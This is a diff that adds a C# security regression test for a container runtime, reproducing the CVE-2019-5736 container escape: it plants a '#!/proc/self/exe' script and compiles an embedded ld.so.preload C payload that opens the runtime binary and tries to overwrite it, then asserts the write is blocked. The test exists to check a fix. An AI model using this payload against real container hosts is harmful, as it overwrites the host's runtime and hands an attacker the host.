@@ -130,6 +130,123 @@ public sealed class SecurityAttackTests(ITestOutputHelper output) : ContainerTes
         AssertBinaryNotWritten(Bundle.InRootfs("/marks"), binary, hash);
     }
 
+    /// <summary>
+    /// The exec path of CVE-2019-5736, as found from outside: a container file starting with <c>#!/proc/self/exe</c>
+    /// makes the kernel run, as the interpreter, whatever /proc/self/exe is in the process that execs it. If that
+    /// process is still a copy of the host's runtime binary, the runtime runs inside the container, under the
+    /// container's ld.so and glibc, which honour the container's /etc/ld.so.preload: the preloaded code opens
+    /// /proc/self/exe read-only, hands the fd to a child, exits, and the child writes through /proc/self/fd/N once
+    /// no process runs the binary any more. The rootfs has the host's loader and libraries so that the runtime can
+    /// load there; the target is a copy of the runtime in a directory of its own, compared by hash.
+    /// </summary>
+    [SkippableFact]
+    public void Cve2019_5736_AnExecdInterpreterScript_CannotWriteTheRuntimeThroughProcSelfExe()
+    {
+        var (binary, runner) = RuntimeCopy();
+        string hash = Sha256(binary);
+        CopyHostLoaderAndLibraries(binary, Bundle.Rootfs);
+        CompilePreload(Bundle.InRootfs("/lib/evil.so"));
+        File.WriteAllText(Bundle.InRootfs("/etc/ld.so.preload"), "/lib/evil.so\n");
+        File.WriteAllText(Bundle.InRootfs("/bin/evil"), "#!/proc/self/exe\n");
+        File.SetUnixFileMode(Bundle.InRootfs("/bin/evil"), (UnixFileMode)0x1ed);
+        Directory.CreateDirectory(Bundle.InRootfs("/marks"));
+        File.WriteAllText(Bundle.InRootfs("/marks/writer.sh"), ReopenForWrite(waitForGo: false));
+
+        var spec = Specs.Default("sleep", "1000");
+        spec["root"]!["readonly"] = false;
+        Bundle.WriteConfig(spec);
+        var run = runner.Run("run", "-d", "--bundle", Bundle.Path, Id);
+        Assert.True(run.Succeeded, "run -d failed: " + run);
+
+        // The preloaded code exits 0 at once; what counts is what its child can do to the binary afterwards.
+        var exec = runner.Run("exec", Id, "/bin/evil");
+        Output.WriteLine("exec /bin/evil: " + exec);
+        string marks = Bundle.InRootfs("/marks");
+        string Read(string name) => File.Exists(Path.Combine(marks, name)) ? File.ReadAllText(Path.Combine(marks, name)).Trim() : "";
+        // The attack must get as far as the advisory's: the kernel ran a binary that loaded the container's ld.so.
+        Eventually(() => Read("ran") != "", () => $"the preloaded payload never ran; exec said: {exec}");
+        Eventually(() => Read("result") != "", "the payload's verdict", TimeSpan.FromSeconds(40));
+        Output.WriteLine($"payload: ran as {Read("ran")}; verdict {Read("result")}; write error: {Read("write-error")}");
+        Assert.Equal("blocked", Read("result"));
+        Assert.Equal(hash, Sha256(binary));
+    }
+
+    /// <summary>
+    /// Copies the dynamic loader and the libraries <paramref name="binary"/> needs (as ldd lists them) from the host
+    /// into <paramref name="rootfs"/> at the same paths, so that the runtime binary can start inside the container.
+    /// </summary>
+    static void CopyHostLoaderAndLibraries(string binary, string rootfs)
+    {
+        string ldd = Bundle.RunTool("ldd", binary);
+        foreach (var line in ldd.Split('\n', StringSplitOptions.RemoveEmptyEntries | StringSplitOptions.TrimEntries))
+        {
+            // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or "/lib64/ld-linux-x86-64.so.2 (0x...)"
+            string? path = line.Split(' ').FirstOrDefault(w => w.StartsWith('/'));
+            if (path is null) continue;
+            string target = Path.Combine(rootfs, path.TrimStart('/'));
+            Bundle.CreateDirectory(Path.GetDirectoryName(target)!);
+            string real = new FileInfo(path).ResolveLinkTarget(returnFinalTarget: true)?.FullName ?? path;
+            File.Copy(real, target, overwrite: true);
+        }
+        string libc = Path.Combine(rootfs, "lib/x86_64-linux-gnu/libc.so.6");
+        Assert.True(File.Exists(libc), $"ldd of {binary} named no libc.so.6 under /lib/x86_64-linux-gnu:\n{ldd}");
+    }
+
+    /// <summary>
+    /// The advisory's payload as an ld.so.preload library: in any dynamically linked process of the container it opens
+    /// /proc/self/exe read-only on fd 3, starts /marks/writer.sh (<see cref="ReopenForWrite"/>: it keeps reopening the
+    /// fd for writing through /proc/self/fd/3, which the kernel refuses while the file is being executed) in a child,
+    /// and exits at once so that the binary stops being busy. It leaves what it saw in /marks.
+    /// </summary>
+    static void CompilePreload(string output)
+    {
+        const string source = """
+            #define _GNU_SOURCE
+            #include <errno.h>
+            #include <fcntl.h>
+            #include <stdio.h>
+            #include <string.h>
+            #include <unistd.h>
+            static void mark(const char *name, const char *text) {
+                char path[64];
+                snprintf(path, sizeof path, "/marks/%s", name);
+                int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
+                if (fd < 0) return;
+                if (write(fd, text, strlen(text)) < 0 || write(fd, "\n", 1) < 0) { }
+                close(fd);
+            }
+            __attribute__((constructor)) static void payload(void) {
+                char exe[4096];
+                ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
+                exe[n > 0 ? n : 0] = 0;
+                mark("ran", exe);
+                int fd = open("/proc/self/exe", O_RDONLY);
+                if (fd < 0) { mark("result", "cannot-open"); _exit(0); }
+                // The child execs the writer at once: a fork of this process would keep the binary mapped (and busy).
+                if (dup2(fd, 3) < 0) { mark("result", "cannot-dup"); _exit(0); }
+                if (fork() == 0) {
+                    setsid();
+                    execl("/bin/sh", "sh", "/marks/writer.sh", (char *)0);
+                    mark("result", "cannot-exec-writer");
+                    _exit(0);
+                }
+                _exit(0);
+            }
+            """;
+        string dir = Path.GetDirectoryName(output)!;
+        Bundle.CreateDirectory(dir);
+        string c = Path.Combine(Path.GetTempPath(), $"evil-{Guid.NewGuid():N}.c");
+        File.WriteAllText(c, source);
+        try
+        {
+            Bundle.RunTool("gcc", "-shared", "-fPIC", "-O1", "-o", output, c);
+        }
+        finally
+        {
+            File.Delete(c);
+        }
+    }
+
     // ---- CVE-2024-21626: a leaked fd and a cwd of /proc/self/fd/N ----
 
     [SkippableFact]
